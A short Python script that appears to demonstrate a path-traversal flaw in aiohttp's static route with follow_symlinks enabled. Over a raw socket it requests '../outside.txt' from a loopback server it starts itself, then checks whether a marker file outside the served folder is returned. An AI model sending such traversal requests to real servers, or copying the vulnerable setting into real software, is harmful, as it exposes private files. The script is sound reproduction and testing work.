"""Ask a loopback server for a file beside its static folder."""

import asyncio
import pathlib
import sys

from aiohttp import web

pathlib.Path("public").mkdir(exist_ok=True)
pathlib.Path("public/inside.txt").write_text("welcome")
pathlib.Path("outside.txt").write_text("marker of the outside")
path = "inside.txt" if "benign" in sys.argv else "../outside.txt"


async def main():
    """Serve the folder, ask for the file, look at the answer."""
    app = web.Application()
    app.router.add_static("/static", "public", follow_symlinks=True)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    # A plain socket: a client library would tidy the path before it sends it.
    reader, writer = await asyncio.open_connection(*site._server.sockets[0].getsockname())
    writer.write(f"GET /static/{path} HTTP/1.0\r\nHost: a\r\n\r\n".encode())
    answer = await reader.read()
    writer.close()
    await runner.cleanup()
    print(answer.splitlines()[0].decode())
    if b"marker of the outside" in answer:
        print("FLAW SHOWN")


asyncio.run(main())
